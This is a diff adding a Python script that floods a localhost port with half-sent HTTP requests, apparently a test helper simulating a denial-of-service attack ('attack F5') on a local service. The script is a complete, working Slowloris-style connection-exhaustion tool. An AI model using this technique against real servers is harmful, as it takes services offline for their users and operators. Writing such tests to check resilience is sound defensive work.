@@ -1,0 +1,56 @@
+"""Flood a port with plain connections, as another run's `bash` can (attack F5): keep as many
+half-sent HTTP requests open as the port lets us, opening a new one for each it closes.
+
+Run as a script: `python _flood.py PORT`. Prints `flooding` once the first batch is open,
+then runs until killed. Stdlib only, so any user's interpreter can run it."""
+
+from __future__ import annotations
+
+import resource
+import selectors
+import socket
+import sys
+
+BATCH = 200  # connections opened between two looks at the ones open
+REQUEST = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"  # never finished
+
+
+def flood(port: int) -> None:
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    most = min(hard - 64, 4000)
+    selector = selectors.DefaultSelector()
+    held: set[socket.socket] = set()
+    announced = False
+    while True:
+        for _ in range(min(BATCH, most - len(held))):
+            sock = socket.socket()
+            sock.setblocking(False)
+            try:
+                sock.connect(("127.0.0.1", port))
+            except BlockingIOError:
+                pass
+            except OSError:
+                sock.close()
+                break
+            selector.register(sock, selectors.EVENT_WRITE)
+            held.add(sock)
+        if not announced:
+            print("flooding", flush=True)
+            announced = True
+        for key, events in selector.select(timeout=0.05):
+            sock = key.fileobj  # type: ignore[assignment]
+            try:
+                if events & selectors.EVENT_WRITE:
+                    sock.send(REQUEST)
+                    selector.modify(sock, selectors.EVENT_READ)
+                elif not sock.recv(4096):
+                    raise OSError("closed")
+            except OSError:
+                selector.unregister(sock)
+                held.discard(sock)
+                sock.close()
+
+
+if __name__ == "__main__":
+    flood(int(sys.argv[1]))
